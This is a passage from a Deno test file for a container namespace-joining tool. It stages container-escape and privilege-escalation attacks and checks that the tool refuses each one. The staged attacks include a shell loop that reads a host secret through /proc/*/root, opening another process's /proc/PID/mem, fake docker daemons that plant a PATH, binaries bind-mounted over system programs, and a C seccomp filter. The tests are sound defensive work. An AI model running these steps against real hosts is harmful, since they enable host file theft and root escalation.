      relay.kill("SIGTERM"); // relayed: the program ends, and with it the relay
      await relay.status;
      await out.cancel();
      const err = await new Response(relay.stderr).text();
      assert(!err.includes("Debugger listening"), err);
    } finally {
      await removeContainers(made);
    }
  },
});

// ---- stop 21: confinement parity of every entry point that runs something in a container

/** The PIDs of our processes whose cmdline is exactly `argv`, now (none: an empty list). */
function processesWithArgv(argv: string[]): number[] {
  const want = argv.join("\0") + "\0";
  const out: number[] = [];
  for (const e of Deno.readDirSync("/proc")) {
    if (!/^\d+$/.test(e.name)) continue;
    try {
      if (Deno.readTextFileSync(`/proc/${e.name}/cmdline`) === want) out.push(Number(e.name));
    } catch {
      // Gone.
    }
  }
  return out;
}

Deno.test({
  name:
    "stop 21: a container's root never reaches the host's files through an exec that joins its pid namespace without its mount namespace",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn(t) {
    // The program of `exec -n pid,net` was a host program (our mount namespace) in the
    // container's pid namespace, with its uid 0 and capabilities: the container's root may
    // open its /proc/N/root (ptrace's rule: same uid, no more capabilities), which is our
    // root directory — and reads or writes any host file with its CAP_DAC_OVERRIDE.
    await dockerImage();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-s21-" });
    const secret = `s21-${crypto.randomUUID()}`;
    await Deno.writeTextFile(`${dir}/secret`, secret, { mode: 0o600 });
    await Deno.chmod(dir, 0o700);
    const name = `nsjoin-s21-${Math.random().toString(36).slice(2, 8)}`;
    const c = await startContainer("docker", name);
    // What the container's root does: every process's root, the host file's path under it.
    const steal = () =>
      engineExec(c, [], [
        "sh",
        "-c",
        `for r in /proc/[0-9]*/root; do cat "$r${dir}/secret" 2>/dev/null; done; true`,
      ]);
    try {
      for (
        const [what, target] of [
          ["a container", name],
          ["its PID", String(c.pid)],
          ["its pid namespace file", `/proc/${c.pid}/ns/pid`],
        ] as const
      ) {
        await t.step(
          `exec -n pid,net of ${what}: refused, nothing the container can open`,
          async () => {
            const nap = `${Math.floor(Math.random() * 1000) + 100}.21`;
            const ns = target.startsWith("/") ? [] : ["-n", "pid,net"];
            const out = await runPiped(Deno.execPath(), {
              args: ["run", "-A", "--quiet", "--no-lock", CLI, "exec", "-d", ...ns, target]
                .concat(["/bin/sleep", nap]),
            });
            // The host's sleep, if it ran, is looked for from inside.
            await new Promise((r) => setTimeout(r, 300));
            const ran = processesWithArgv(["/bin/sleep", nap]);
            try {
              const stolen = await steal();
              assert(!stolen.stdout.includes(secret), `the container read ${dir}/secret`);
              assertEquals([out.code, ran.length], [2, 0], out.stderr);
              assertMatch(
                out.stderr,
                /^nsjoin exec: Cannot join the pid namespace .* without its mnt namespace/,
              );
            } finally {
              for (const p of ran) Deno.kill(p, "SIGKILL");
            }
          },
        );
      }
      await t.step("daxIn(pid, { namespaces: [pid, net] }): refused, nothing runs", async () => {
        const { daxIn } = await import("../dax.ts");
        const nap = `${Math.floor(Math.random() * 1000) + 30}.21`;
        let job: Promise<unknown> | undefined;
        let refused: unknown;
        try {
          const $ = daxIn(c.pid, { namespaces: ["pid", "net"] });
          job = (async () => await $`sh -c ${`sleep ${nap}`}`.quiet().noThrow())();
          await new Promise((r) => setTimeout(r, 500));
        } catch (error) {
          refused = error;
        }
        try {
          const stolen = await steal();
          assert(!stolen.stdout.includes(secret), `the container read ${dir}/secret`);
          assert(refused instanceof TypeError, `not refused: ${refused}`);
          assertMatch((refused as TypeError).message, /without its mnt namespace/);
        } finally {
          for (const argv of [["sh", "-c", `sleep ${nap}`], ["sleep", nap]]) {
            for (const p of processesWithArgv(argv)) Deno.kill(p, "SIGKILL");
          }
          await job;
        }
      });
      await t.step(
        "containerExecOptions refuses it too (daxIn(container) and sessions take its options)",
        async () => {
          using pinned = await resolveContainer(`docker:${name}`);
          assertThrows(
            () => containerExecOptions(pinned, { namespaces: ["pid", "net"] }),
            TypeError,
            "without its mnt namespace",
          );
          // With the mount namespace it is docker exec's shape: allowed.
          const ok = containerExecOptions(pinned, { namespaces: ["pid", "net", "mnt"] });
          assertEquals(ok.seccomp, "target");
        },
      );
    } finally {
      await removeContainers([c]);
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 21: exec -n net of a container keeps its seccomp filter: a syscall docker's filter refuses stays refused",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn() {
    // containerExecOptions left out the container's filter, limits, oom_score_adj, umask and
    // label when the mount namespace was not joined (exec PID kept them): the host program
    // ran in the container's cgroups and namespaces under none of its seccomp filter.
    await dockerImage();
    const name = `nsjoin-s21n-${Math.random().toString(36).slice(2, 8)}`;
    const c = await startContainer("docker", name);
    try {
      const out = await runPiped(Deno.execPath(), {
        args: ["run", "-A", "--quiet", "--no-lock", CLI, "exec", "-n", "net,uts", name]
          .concat(["unshare", "-U", "-r", "id"]),
      });
      // docker's default profile refuses unshare(CLONE_NEWUSER) (as in confinement_test).
      assert(!out.stdout.startsWith("uid=0"), `the program made a user namespace: ${out.stdout}`);
      assertMatch(out.stderr, /unshare failed: Operation not permitted/);
      using pinned = await resolveContainer(`docker:${name}`);
      const o = containerExecOptions(pinned, { namespaces: ["net"] });
      assertEquals(
        [o.seccomp, o.rlimits, o.oomScoreAdj, o.umask, o.lsm],
        ["target", "target", "target", "target", "target"],
      );
    } finally {
      await removeContainers([c]);
    }
  },
});

Deno.test({
  name:
    "stop 21: daxIn by a rootless container's owner never runs a program unfiltered where the container can ptrace it",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // daxIn left the filter out for a caller who is not root (only root may read it): the
    // owner's `$\`…\`` ran in the container's pid namespace as its root, with its
    // capabilities and no filter, so any process of the container (same uid, same
    // capabilities) could ptrace it (open its /proc/N/mem) and make the calls podman's filter
    // refuses. `nsjoin exec` refuses there; daxIn now does too, unless `seccomp: "none"`.
    const owner = podmanUser();
    if (!owner) throw new Error("tests/setup.sh did not create the rootless podman user");
    await ensureImages(owner);
    const c = await startContainer(
      "podman",
      `nsjoin-s21d-${crypto.randomUUID().slice(0, 8)}`,
      [],
      owner,
    );
    // The owner's Deno, with dax-sh from our cache (no registry needed).
    const info = JSON.parse((await runPiped(Deno.execPath(), { args: ["info", "--json"] })).stdout);
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-s21d-" });
    await Deno.chmod(dir, 0o755);
    await Deno.mkdir(`${dir}/cache`);
    await runPiped("cp", { args: ["-r", `${info.denoDir}/npm`, `${dir}/cache/`] });
    await runPiped("chmod", { args: ["-R", "a+rwX", `${dir}/cache`] });
    const nap = `${Math.floor(Math.random() * 1000) + 30}.21`;
    await Deno.writeTextFile(
      `${dir}/dax.ts`,
      `import { resolveContainer } from "${ROOT}mod.ts";\nimport { daxIn } from "${ROOT}dax.ts";\n` +
        `using c = await resolveContainer(${JSON.stringify(`podman:${c.name}`)});\n` +
        // sh, not sleep: dax runs its built-in sleep itself.
        `await daxIn(c)\`sh -c ${JSON.stringify(`sleep ${nap}`)}\`;\n`,
    );
    await Deno.chmod(`${dir}/dax.ts`, 0o644);
    const script = new Deno.Command("setpriv", {
      args: [`--reuid=${owner.uid}`, `--regid=${owner.gid}`, "--init-groups", "env", "-i"]
        .concat([`HOME=${owner.home}`, `XDG_RUNTIME_DIR=/run/user/${owner.uid}`])
        .concat(["PATH=/usr/local/bin:/usr/bin:/bin", `DENO_DIR=${dir}/cache`])
        .concat([await denoForUsers(), "run", "-A", "--quiet", "--no-lock", "--cached-only"])
        .concat([`${dir}/dax.ts`]),
      cwd: "/",
      stdout: "piped",
      stderr: "piped",
    }).spawn();
    try {
      // What the container does: find the program in its pid namespace and take it over.
      let seen = "";
      for (let i = 0; i < 60 && !seen; i++) {
        const r = await engineExec(c, [], [
          "sh",
          "-c",
          `for s in /proc/[0-9]*/cmdline; do p=\${s%/cmdline}; ` +
          `grep -q ${nap} $s 2>/dev/null && [ $p != /proc/$$ ] && ` +
          `{ grep ^Seccomp: $p/status; exec 3<$p/mem && echo opened-mem; }; done; true`,
        ]);
        seen = r.stdout;
        if (!seen) {
          const done = await Promise.race([
            script.status.then(() => true),
            new Promise<boolean>((r) => setTimeout(() => r(false), 100)),
          ]);
          if (done) break;
        }
      }
      assert(
        !(seen.includes("Seccomp:\t0") && seen.includes("opened-mem")),
        `the container took over an unfiltered program: ${seen}`,
      );
      const out = await script.output();
      assertEquals(out.code === 0, false, "the program ran");
      assertMatch(text(out.stderr), /Cannot copy the seccomp filter of pid \d+/);
    } finally {
      try {
        script.kill("SIGKILL");
      } catch {
        // Ended.
      }
      for (const argv of [["sh", "-c", `sleep ${nap}`], ["sleep", nap]]) {
        for (const p of processesWithArgv(argv)) Deno.kill(p, "SIGKILL");
      }
      await removeContainers([c]);
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name: "stop 21: daxIn(pid) of a container's process runs its programs in the container's cgroups",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // daxIn of a process target joined none of its cgroups: root's `$\`…\`` ran in the
    // container's pid namespace, with its uid 0 and capabilities (so its root may ptrace it),
    // but in our cgroups — outside the container's pids and memory limits and, on a v1 host,
    // its device cgroup, whose rules hold for whoever opens a device node.
    await dockerImage();
    const c = await startContainer("docker", `nsjoin-s21c-${crypto.randomUUID().slice(0, 8)}`, [
      ...["--pids-limit", "32", "--memory", "64m"],
    ]);
    const { daxIn } = await import("../dax.ts");
    const nap = `${Math.floor(Math.random() * 1000) + 30}.21`;
    // A dax command starts only when awaited: started now, awaited at the end.
    const job = (async () => await daxIn(c.pid)`sh -c ${`sleep ${nap}`}`.quiet().noThrow())();
    try {
      let seen = "";
      for (let i = 0; i < 60 && !seen; i++) {
        const r = await engineExec(c, [], [
          "sh",
          "-c",
          `for s in /proc/[0-9]*/cmdline; do p=\${s%/cmdline}; ` +
          `grep -q ${nap} $s 2>/dev/null && [ $p != /proc/$$ ] && ` +
          `{ exec 3<$p/mem && echo opened-mem; cmp -s $p/cgroup /proc/1/cgroup || ` +
          `{ echo outside; cat $p/cgroup; }; }; done; true`,
        ]);
        seen = r.stdout;
        if (!seen) await new Promise((r) => setTimeout(r, 100));
      }
      assertMatch(seen, /opened-mem/, "the program never showed up in the container");
      assert(
        !seen.includes("outside"),
        `a program the container controls is outside its cgroups: ${seen}`,
      );
    } finally {
      for (const argv of [["sh", "-c", `sleep ${nap}`], ["sleep", nap]]) {
        for (const p of processesWithArgv(argv)) Deno.kill(p, "SIGKILL");
      }
      await job;
      await removeContainers([c]);
    }
  },
});

// ---- stop 21b: DOCKER_HOST=tcp:// answered by a daemon a local user runs

/** FAKE_DOCKERD_TS on a loopback TCP port of the kernel's choosing, printed first. */
const FAKE_TCP_DOCKERD_TS = String.raw`
const [pidfile, env] = Deno.args;
const server = Deno.listen({ hostname: "127.0.0.1", port: 0 });
console.log(String(server.addr.port));
for await (const conn of server) {
  await conn.read(new Uint8Array(4096));
  const pid = Number(Deno.readTextFileSync(pidfile));
  const body = JSON.stringify({
    Id: "e".repeat(64),
    Name: "/web",
    State: { Running: true, Pid: pid },
    Config: { Env: [env], User: "", WorkingDir: "" },
  });
  await conn.write(new TextEncoder().encode("HTTP/1.0 200 OK\r\n\r\n" + body));
  conn.close();
}
`;

Deno.test({
  name:
    "stop 21b: a docker daemon a local user runs on DOCKER_HOST's TCP port names only that user's containers",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // DOCKER_HOST=tcp://127.0.0.1:2375 is docker's documented TCP set-up; while root's
    // daemon does not hold the port (not started yet, restarting), any local user may
    // listen there. The unix socket's owner rule did not cover it: the answer was root's,
    // and a State.Pid of a root service in a mount namespace of its own, with a PATH of
    // the user's directory, had root's exec run the user's program there as uid 0.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-tcpdockerd-" });
    await Deno.chmod(dir, 0o755);
    const planted = `${dir}/bin`;
    await Deno.mkdir(planted);
    await Deno.writeTextFile(`${planted}/id`, "#!/bin/sh\necho planted ran as $(/usr/bin/id -u)\n");
    await Deno.chmod(`${planted}/id`, 0o755);
    await Deno.chmod(planted, 0o755);
    await Deno.writeTextFile(`${dir}/fake.ts`, FAKE_TCP_DOCKERD_TS);
    await using service = await makeTarget({ flags: ["-m"] });
    await Deno.writeTextFile(`${dir}/pid`, String(service.pid));
    const { deno, denoDir } = userDeno();
    const daemon = new Deno.Command("setpriv", {
      args: [
        ...[`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups", deno, "run", "-A"],
        ...["--quiet", "--no-config", "--no-lock", `${dir}/fake.ts`, `${dir}/pid`],
        `PATH=${planted}:/usr/bin:/bin`,
      ],
      env: { DENO_DIR: denoDir },
      stdin: "null",
      stdout: "piped",
      stderr: "piped",
    }).spawn();
    try {
      const reader = daemon.stdout.getReader();
      const port = Number(text((await reader.read()).value ?? new Uint8Array()).trim());
      reader.releaseLock();
      daemon.stdout.cancel().catch(() => {});
      if (!(port > 0)) {
        throw new Error(
          `the fake daemon did not start: ${await new Response(daemon.stderr).text()}`,
        );
      }
      daemon.stderr.cancel().catch(() => {});
      for (const target of ["docker:web", "web"]) {
        const out = await runPiped(Deno.execPath(), {
          args: ["run", "-A", "--quiet", CLI, "exec", target, "id"],
          env: { DOCKER_HOST: `tcp://127.0.0.1:${port}` },
        });
        assert(!out.stdout.includes("planted"), `the user's program ran: ${out.stdout}`);
        assertEquals(out.code, 125, out.stderr);
        assertMatch(out.stderr, /Cannot use docker@\d+:web .* no longer in its owner's/);
      }
    } finally {
      try {
        daemon.kill("SIGKILL");
      } catch {
        // It exited already (and said why).
      }
      await daemon.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 21b: a user's podman store past 1024 containers

Deno.test({
  name:
    "stop 21b: a podman store of more than 1024 containers still shows its newest, to root and to its owner",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // Stop 21 bounded a user's store to 1024 entries of each containers.json, its first:
    // containers-storage appends, so a user with 1024 older containers (stopped ones count)
    // had their running one missing from root's ps and from their own.
    await using user = await hostileUser();
    const pid = await user.sleeper("container");
    const stopped = Array.from({ length: 1100 }, (_, i) => ({
      id: (0x100000 + i).toString(16).padStart(64, "0"),
      name: `old${i}`,
      pid: 0,
    }));
    await user.store([...stopped, { id: "f".repeat(64), name: "newest", pid }]);
    const names = (json: string) => (JSON.parse(json) as { name?: string }[]).map((r) => r.name);
    await t.step("root's ps", async () => {
      const ps = await cliBounded(["ps", "--json"], 60_000);
      assertEquals(ps.code, 0, ps.stderr);
      assert(names(ps.stdout).includes("newest"), ps.stdout.slice(0, 400));
    });
    await t.step("the owner's own ps", async () => {
      const { deno, denoDir } = userDeno();
      const out = await runPiped("setpriv", {
        args: [`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups", deno, "run"]
          .concat(["-A", "--quiet", "--no-lock", CLI, "ps", "--json"]),
        env: { DENO_DIR: denoDir, HOME: user.home },
      });
      assertEquals(out.code, 0, out.stderr);
      assert(names(out.stdout).includes("newest"), out.stdout.slice(0, 400));
    });
  },
});

// ---- stop 22: a hostile container

Deno.test({
  name:
    "stop 22: daxIn of a namespace file never runs a user's mount namespace's programs as root, nor hands the user the caller's environment",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // daxIn(FILE) lacked `nsjoin exec FILE`'s rules (stop 20): a file has no process to read
    // its other namespaces from, and the programs ran with root's capabilities and whole
    // environment in whatever the file named.
    const user = await testUser();
    const mark = `sec22-planted-${crypto.randomUUID()}`;
    await using target = await makeTarget({
      flags: ["-U", "--map-root-user", "-m", "-p", "--fork"],
      user: { uid: user.uid, gid: user.gid },
      setup: `mount -t tmpfs t /mnt && printf '#!/bin/sh\\necho ${mark} uid=$(id -u)\\n' > ` +
        "/mnt/ls && chmod 755 /mnt/ls && mount --bind /mnt/ls /bin/ls",
    });
    const secret = `sec22-token-${crypto.randomUUID()}`;
    // In a Deno of its own: the caller's environment is what is at stake.
    const daxIn = (file: string, line: string) =>
      runPiped(
        Deno.execPath(),
        {
          args: ["run", "-A", "--quiet", "--no-lock", "-"],
          env: { SECRET_TOKEN: secret },
        },
        `import { daxIn } from "${ROOT}dax.ts";
try {
  const out = await daxIn(${JSON.stringify(file)})\`sh -c \${${
          JSON.stringify(line)
        }}\`.noThrow().stdout("piped").stderr("piped");
  console.log(JSON.stringify({ code: out.code, stdout: out.stdout, stderr: out.stderr }));
} catch (error) {
  console.log(JSON.stringify({ threw: (error as Error).name, message: (error as Error).message }));
}`,
      );
    const result = async (file: string, line: string) => {
      const out = await daxIn(file, line);
      assertEquals(out.code, 0, out.stderr);
      return JSON.parse(out.stdout) as Record<string, string | number>;
    };
    await t.step("control: nsenter --mount=FILE runs the user's program as root", async () => {
      const out = await runPiped("nsenter", { args: [`--mount=/proc/${target.pid}/ns/mnt`, "ls"] });
      assertEquals(out.stdout.trim(), `${mark} uid=0`, out.stderr);
    });
    await t.step("daxIn(/proc/PID/ns/mnt): refused, the user's program never runs", async () => {
      const r = await result(`/proc/${target.pid}/ns/mnt`, "ls");
      assert(!String(r.stdout ?? "").includes(mark), `root ran the user's program: ${r.stdout}`);
      assertEquals(r.threw, "TypeError", JSON.stringify(r));
      assertMatch(String(r.message), /^Cannot join the mnt namespace \S+ without its user/);
    });
    await t.step("daxIn(/proc/PID/ns/pid): refused, no host program there", async () => {
      const r = await result(`/proc/${target.pid}/ns/pid`, "echo ran $$");
      assertEquals(r.threw, "TypeError", JSON.stringify(r));
      assertMatch(String(r.message), /^Cannot join the pid namespace \S+ without its mnt/);
    });
    await t.step("daxIn(/proc/PID/ns/user): the program has none of root's secrets", async () => {
      const r = await result(
        `/proc/${target.pid}/ns/user`,
        "env; pwd",
      );
      assertEquals(r.code, 0, JSON.stringify(r));
      // The program has the user's uid on the host: its environ is theirs to read.
      assert(!String(r.stdout).includes(secret), `the user's namespace got root's secret`);
      assertMatch(String(r.stdout), /^PATH=/m);
      assertMatch(String(r.stdout), /\n\/\n$/);
    });
    await t.step("daxIn of our own mount namespace file still runs, as before", async () => {
      const r = await result(`/proc/${Deno.pid}/ns/mnt`, "echo $SECRET_TOKEN");
      assertEquals([r.code, String(r.stdout).trim()], [0, secret], JSON.stringify(r));
    });
  },
});

/** Sets a filter failing prctl(PR_SET_DUMPABLE, …) with EPERM (after no_new_privs with "nnp"), then execs argv[2…]. */
const NO_UNDUMP_C = String.raw`
#include <errno.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(int argc, char **argv) {
  struct sock_filter f[] = {
    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_prctl, 0, 3),
    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, PR_SET_DUMPABLE, 0, 1),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog prog = { sizeof f / sizeof f[0], f };
  if (argc < 3) return 2;
  if (strcmp(argv[1], "nnp") == 0 && prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)) return perror("nnp"), 1;
  if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog)) return perror("seccomp"), 1;
  execvp(argv[2], argv + 2);
  perror("exec");
  return 127;
}
`;

Deno.test({
  name:
    "stop 22: a target's filter that fails prctl(PR_SET_DUMPABLE) never leaves the helper to the target's user (suid_dumpable=1)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // review 4 made the helper non-dumpable again after its last credential change, and
    // ignored that prctl's result. The target's filter (copied with seccomp "target") was in
    // by then, and any process may set one with no_new_privs: one failing that prctl left
    // the helper dumpable and its user's after a setuid (fs.suid_dumpable=1), and the user
    // read its /proc/PID/fd (the caller's stdio), as review 4's test does without a filter.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec22-" });
    const knob = "/proc/sys/fs/suid_dumpable";
    const saved = (await Deno.readTextFile(knob)).trim();
    try {
      await Deno.writeTextFile(`${dir}/f.c`, NO_UNDUMP_C);
      await sh("gcc", ["-O2", "-o", `${dir}/f`, `${dir}/f.c`]);
      await Deno.writeTextFile(knob, "1");
      for (const mode of ["nnp", "-"]) {
        await t.step(`a filter ${mode === "nnp" ? "with" : "without"} no_new_privs`, async () => {
          // The filter on the namespace's shell, and so on the sleep it becomes.
          await using target = await makeTarget({
            flags: [...ALL_BUT_USER, `${dir}/f`, mode],
          });
          assertMatch(await Deno.readTextFile(`/proc/${target.pid}/status`), /^Seccomp:\s+2$/m);
          const uid = 40000 + Math.floor(Math.random() * 20000);
          const child = new NsCommand("sleep", {
            args: ["3"],
            target: target.pid,
            uid,
            gid: uid,
            seccomp: "target",
            noNewPrivs: "target",
            stdout: "null",
            stderr: "piped",
          }).spawn();
          let peek: Deno.CommandOutput | undefined;
          let ended = false;
          child.status.then(() => ended = true);
          try {
            // The peek comes once the program runs (its credentials are the helper's last)
            // or the helper has ended. Not at the helper's first child: that is the one
            // reading the target's filter (stop 23), forked before the ids change, and a
            // slow machine's helper killed there ended by SIGKILL, not by its refusal.
            const children = `/proc/${child.pid}/task/${child.pid}/children`;
            for (let i = 0; i < 500 && !ended; i++) {
              const kids = await Deno.readTextFile(children).catch(() => "");
              const comms = await Promise.all(
                kids.trim().split(/\s+/).filter(Boolean).map((k) =>
                  Deno.readTextFile(`/proc/${k}/comm`).catch(() => "")
                ),
              );
              if (comms.some((c) => c.trim() === "sleep")) break;
              await new Promise((r) => setTimeout(r, 10));
            }
            peek = await new Deno.Command("setpriv", {
              args: [`--reuid=${uid}`, `--regid=${uid}`, "--clear-groups"]
                .concat(["readlink", `/proc/${child.pid}/fd/0`]),
              stdout: "piped",
              stderr: "null",
            }).output();
          } finally {
            try {
              child.kill("SIGKILL");
            } catch {
              // It failed to start, as it may (below).
            }
          }
          const status = await child.status;
          const err = text(await new Response(child.stderr).bytes());
          assert(!peek.success, `the target's user read the helper's fd 0: ${text(peek.stdout)}`);
          if (mode === "nnp") {
            // The prctl runs before that filter goes in: the exec works as before.
            assertEquals(status.signal, "SIGKILL", err);
          } else {
            // The target's filter is in before the ids change (runc's order): refused.
            assertEquals(status.code, 125, err);
            assertMatch(err, /Cannot make the helper non-dumpable .* refuses prctl/);
          }
        });
      }
    } finally {
      await Deno.writeTextFile(knob, saved);
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 22: a failure record a CAP_SYS_PTRACE target forges never says that a program which ran did not start",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // setupError means "the program never ran": a caller may retry on it. The program's
    // process holds the error pipe until execve, and stop 21's forger (CAP_SYS_PTRACE in
    // the target's pid namespace) writes a record there: the program ran and exited 0, and
    // setupError said it had failed to start, so a retrying caller ran it twice.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-forger22-" });
    try {
      await Deno.writeTextFile(`${dir}/forger.c`, RECORD_FORGER_C);
      await sh("gcc", ["-static", "-O2", "-o", `${dir}/forger`, `${dir}/forger.c`]);
      // The forger races each helper for its pipe: on a loaded machine a round of 40 may see
      // no write, which proves nothing either way — another round then (at most four).
      const round = async () => {
        const target = new Deno.Command("unshare", {
          args: ["-p", "--fork", "--mount-proc", "setpriv", "--bounding-set=-all,+sys_ptrace"]
            .concat(["--inh-caps=-all", `${dir}/forger`]),
          stdin: "null",
          stdout: "piped",
          stderr: "inherit",
        }).spawn();
        const reader = target.stdout.pipeThrough(new TextDecoderStream()).getReader();
        let out = "";
        while (!out.includes("ready\n")) {
          const { value, done } = await reader.read();
          if (done) throw new Error("the forger did not start");
          out += value;
        }
        const pid = Number(
          Deno.readTextFileSync(`/proc/${target.pid}/task/${target.pid}/children`),
        );
        let runs = 0, told = 0;
        try {
          for (let i = 0; i < 40; i++) {
            const run = await new NsCommand("sh", {
              target: pid,
              args: ["-c", "echo ran"],
              capabilities: "target",
              newSession: true,
              stdin: "null",
              stdout: "piped",
              stderr: "piped",
            }).output();
            assertEquals([run.code, text(run.stdout)], [0, "ran\n"], text(run.stderr));
            runs++;
            if (run.setupError) told++;
          }
        } finally {
          Deno.kill(pid, "SIGTERM");
        }
        for (let r = await reader.read(); !r.done; r = await reader.read()) out += r.value;
        await target.status;
        const { writes } = JSON.parse(out.trim().split("\n").pop()!);
        return { out, writes: writes as number, runs, told };
      };
      let r = await round();
      for (let k = 1; k < 4 && r.writes === 0 && r.told === 0; k++) r = await round();
      // The attack was live: records were written into the programs' error pipes.
      assert(r.writes > 0, r.out);
      assertEquals(
        r.told,
        0,
        `setupError on ${r.told} of ${r.runs} programs that ran (${r.writes} forged)`,
      );
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 22: a docker daemon on a socket of root's (a container's, docker-in-docker) never has exec join a process outside the container's cgroups",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // Stop 21 held a daemon to its socket's owner, and trusted a socket of root's as root's
    // dockerd. A rootful container's root is uid 0: docker-in-docker's dockerd (whose socket
    // root reaches through a volume, DOCKER_HOST=unix:///srv/dind/docker.sock), or any
    // container that binds a socket there. Such a daemon answers PIDs of its own pid
    // namespace, or what it likes: a root process with a mount namespace of its own over our
    // root (a service's PrivateTmp) passed the one check left, and its Config.Env PATH chose
    // the program root's exec ran there, as uid 0 on the host's files.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-dind22-" });
    const planted = `${dir}/bin`;
    await Deno.mkdir(planted);
    await Deno.writeTextFile(`${planted}/id`, "#!/bin/sh\necho planted ran as $(/usr/bin/id -u)\n");
    await Deno.chmod(`${planted}/id`, 0o755);
    await Deno.writeTextFile(`${dir}/fake.ts`, FAKE_DOCKERD_TS);
    const sock = `${dir}/docker.sock`;
    await using service = await makeTarget({ flags: ["-m"] });
    await Deno.writeTextFile(`${dir}/pid`, String(service.pid));
    // The daemon as a container's: root, in pid and mount namespaces of its own.
    const daemon = new Deno.Command("unshare", {
      // --kill-child: the daemon, its pid namespace's init, dies with unshare (killed below).
      args: ["-p", "-m", "--fork", "--kill-child", "--mount-proc", Deno.execPath(), "run", "-A"]
        .concat(["--quiet", "--no-config", "--no-lock", `${dir}/fake.ts`, sock, `${dir}/pid`])
        .concat([`PATH=${planted}:/usr/bin:/bin`]),
      stdin: "null",
      stdout: "piped",
      stderr: "piped",
    }).spawn();
    try {
      const reader = daemon.stdout.getReader();
      const ready = text((await reader.read()).value ?? new Uint8Array()).trim();
      reader.releaseLock();
      daemon.stdout.cancel().catch(() => {});
      if (ready !== "ready") {
        throw new Error(
          `the fake daemon did not start: ${await new Response(daemon.stderr).text()}`,
        );
      }
      daemon.stderr.cancel().catch(() => {});
      assertEquals((await Deno.stat(sock)).uid, 0);
      await t.step("a root process with a mount namespace of its own: refused", async () => {
        for (const target of ["docker:web", "web"]) {
          const out = await runPiped(Deno.execPath(), {
            args: ["run", "-A", "--quiet", CLI, "exec", target, "id"],
            env: { DOCKER_HOST: `unix://${sock}` },
          });
          assert(!out.stdout.includes("planted"), `the daemon's program ran: ${out.stdout}`);
          assertEquals(out.code, 125, out.stderr);
          assertMatch(out.stderr, /Cannot use docker:web .*outside the container's cgroups/);
        }
      });
      await t.step("resolveContainer refuses it too", async () => {
        await assertRejects(
          () => resolveContainer("docker:web", { dockerHost: `unix://${sock}` }),
          NamespaceError,
        );
      });
    } finally {
      try {
        daemon.kill("SIGKILL");
      } catch {
        // It exited already (and said why).
      }
      await daemon.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

/** A POSIX ACL xattr (acl_ea.h: version 2, then tag, perm, id per entry, in tag order). */
function posixAcl(owner: number, user: number, perm: number): Uint8Array {
  const none = 0xffffffff;
  const entries = [[0x01, owner, none], [0x02, perm, user], [0x04, 0, none], [0x10, perm, none]]
    .concat([[0x20, 0, none]]);
  const bytes = new Uint8Array(4 + 8 * entries.length);
  const view = new DataView(bytes.buffer);
  view.setUint32(0, 2, true);
  entries.forEach(([tag, p, id], i) => {
    view.setUint16(4 + 8 * i, tag, true);
    view.setUint16(6 + 8 * i, p, true);
    view.setUint32(8 + 8 * i, id, true);
  });
  return bytes;
}

Deno.test({
  name:
    "stop 22: cp out of a target never gives a host user the target names access through its ACLs",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // cp kept every xattr out of a target but file capabilities: a POSIX ACL is one, and it
    // names host ids the target chose. Its root (here host root through /proc/PID/root, as
    // its own setxattr would) gave a local user rw on a 0600 file and rwx, by default ACL,
    // on a 0700 directory: root's copy, "ours" without -a, stayed theirs to read and fill.
    const user = await testUser();
    await using target = await makeTarget({
      flags: ["-m"],
      setup: "mount -t tmpfs t /mnt && mkdir /mnt/d && echo data > /mnt/d/f && " +
        "chmod 600 /mnt/d/f && chmod 700 /mnt/d",
    });
    const inside = (p: string) => `/proc/${target.pid}/root${p}`;
    const set = (p: string, attrs: [string, Uint8Array][]) => {
      const fd = openat2(AT_FDCWD, inside(p), O.RDONLY, 0n);
      try {
        setXattrs(fd, attrs);
        return getXattrs(fd).map(([n]) => n);
      } finally {
        close(fd);
      }
    };
    const names = set("/mnt/d/f", [
      ["system.posix_acl_access", posixAcl(6, user.uid, 6)],
      ["user.note", new TextEncoder().encode("kept")],
    ]);
